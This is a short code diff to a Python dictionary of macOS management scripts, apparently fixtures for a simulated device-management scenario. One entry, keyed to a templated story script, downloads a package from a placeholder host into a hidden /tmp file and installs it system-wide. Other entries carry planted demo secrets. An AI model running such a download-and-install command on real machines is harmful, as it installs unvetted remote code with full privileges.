@@ -73,6 +73,7 @@ BODIES = {
     "Rotate Recovery Key": "#!/bin/zsh\n# SECRET-IN-SCRIPT api_key=nw-demo-4f1d2c\nfdesetup changerecovery -personal\n",
     "Inventory Collector": "#!/bin/zsh\n/usr/local/northwind/bin/inventory.sh --token SECRET-IN-SCRIPT\n",
     "Rename Computer": '#!/bin/zsh\nscutil --set ComputerName "NW-$(id -un)"\n',
-    STORY.script_name: f"#!/bin/zsh\ncurl -fsSL http://{STORY.command_host}/fix.pkg -o /tmp/.fix.pkg && installer -pkg /tmp/.fix.pkg -target /\n",
+    STORY.script_name: f"#!/bin/zsh\ncurl -fsSL http://{STORY.command_host}/fix.pkg -o /tmp/.fix.pkg\n"
+    "installer -pkg /tmp/.fix.pkg -target /\n",
 }
 """What custom scripts do."""
